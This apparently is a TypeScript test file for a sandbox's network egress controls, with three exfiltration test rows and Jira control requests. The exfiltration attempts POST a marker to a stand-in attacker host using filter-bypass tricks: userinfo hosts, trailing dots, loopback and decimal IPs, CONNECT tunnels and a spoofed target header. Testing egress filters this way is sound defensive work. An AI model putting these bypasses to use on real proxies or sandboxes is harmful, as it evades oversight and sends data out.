import type { Attempt, Brief, InsideRow } from '../brief.js'
import { attempt, inTurn, type ForwardResult } from './lib/attempt.mjs'
import { exchange, get, openTcp, openTls, openTunnel } from './lib/http.mjs'
import { askJira } from './lib/controls.mjs'

export const rows: Readonly<Record<string, InsideRow>> = {
  'exfil-transparent': { attack: throughTransparentListener, control: askJira },
  'exfil-explicit': { attack: throughExplicitProxy, control: askThroughProxy },
  'exfil-routes': { attack: throughBaseUrls, control: askThroughBaseUrls },
}

async function throughTransparentListener(
  { listeners, names, attacker }: Brief,
  marker: string,
): Promise<Attempt[]> {
  const hosts = [
    names.attacker,
    `${names.attacker}.`,
    `${names.attacker}:${attacker.port}`,
    `${names.jira}.${names.attacker}`,
    `${names.jira}@${names.attacker}`,
    `127.0.0.1:${attacker.port}`,
    `[::1]:${attacker.port}`,
    '2130706433',
  ]
  const plain = async (host: string): Promise<ForwardResult> =>
    exchange(await openTcp(listeners.http), post(host, `/?q=${marker}`, marker))
  const secured = async (host: string): Promise<ForwardResult> => {
    const name = host.replace(/:\d+$/, '')
    return exchange(await openTls(await openTcp(listeners.https), name), post(host, `/?q=${marker}`, marker))
  }
  return inTurn([
    ...hosts.map((host) => () => attempt(`http, Host: ${host}`, () => plain(host))),
    ...hosts.map((host) => () => attempt(`https to ${host}`, () => secured(host))),
  ])
}

async function throughExplicitProxy(
  { listeners, names, attacker }: Brief,
  marker: string,
): Promise<Attempt[]> {
  const absolute = [
    `http://${names.attacker}`,
    `https://${names.attacker}`,
    `http://${names.attacker}:${attacker.port}`,
    `http://127.0.0.1:${attacker.port}`,
    `http://${names.jira}@${names.attacker}`,
    `ftp://${names.attacker}`,
  ]
  const targets = [
    `${names.attacker}:443`,
    `${names.attacker}:${attacker.port}`,
    `127.0.0.1:${attacker.port}`,
    `[::1]:${attacker.port}`,
    `${names.jira}:22`,
    `${names.jira}@${names.attacker}:443`,
  ]
  return inTurn([
    ...absolute.map((base) => () => {
      const host = base.replace(/^[a-z]+:\/\//, '')
      return attempt(`GET ${base}`, async () =>
        exchange(await openTcp(listeners.proxy), post(host, `${base}/?q=${marker}`, marker)),
      )
    }),
    ...targets.map(
      (target) => () =>
        attempt(`CONNECT ${target}`, async () =>
          exchange(await openTunnel(listeners.proxy, target), post(target, `/?q=${marker}`, marker)),
        ),
    ),
  ])
}

async function throughBaseUrls({ listeners, names }: Brief, marker: string): Promise<Attempt[]> {
  const requests: [path: string, ...extra: string[]][] = [
    ['/attacker/'],
    [`/${names.attacker}/`],
    [`/https://${names.attacker}/`],
    [`//${names.attacker}/`],
    [`/jira@${names.attacker}/rest/api/2/myself`],
    [`/jira/rest/api/2/myself`, `X-Sandbox-Target: https://${names.attacker}`],
    [`http://${names.attacker}/`],
  ]
  return inTurn(
    requests.map(
      ([path, ...extra]) =>
        () =>
          attempt([`GET ${path}`, ...extra].join(', '), async () =>
            exchange(await openTcp(listeners.reverse), get('egress:9199', `${path}?q=${marker}`, extra)),
          ),
    ),
  )
}

async function askThroughProxy({ listeners, names }: Brief, marker: string): Promise<Attempt[]> {
  return [
    await attempt('CONNECT to Jira', async () => {
      const tunnel = await openTunnel(listeners.proxy, `${names.jira}:443`)
      return exchange(
        await openTls(tunnel, names.jira),
        get(names.jira, `/rest/api/2/myself?control=${marker}`),
      )
    }),
  ]
}

async function askThroughBaseUrls({ listeners }: Brief, marker: string): Promise<Attempt[]> {
  return [
    await attempt('GET /jira/rest/api/2/myself', async () =>
      exchange(
        await openTcp(listeners.reverse),
        get('egress:9199', `/jira/rest/api/2/myself?control=${marker}`),
      ),
    ),
  ]
}

function post(host: string, target: string, body: string): string {
  const head = [
    `POST ${target} HTTP/1.1`,
    `Host: ${host}`,
    'Connection: close',
    `Content-Length: ${body.length}`,
  ]
  return [...head, '', body].join('\r\n')
}
